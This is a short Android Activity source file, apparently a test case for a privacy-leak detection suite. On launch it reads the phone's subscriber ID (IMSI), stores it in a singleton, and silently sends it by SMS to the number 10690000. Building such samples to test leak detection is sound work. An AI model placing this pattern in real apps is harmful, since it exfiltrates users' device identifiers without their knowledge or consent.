package cn.privlens.suite.lazy_holder_field;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Store.only().take(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId(), getTitle().toString());
        send();
    }

    private void send() {
        String text = Store.only().subscriber();
        if (text != null) {
            SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
        }
    }
}
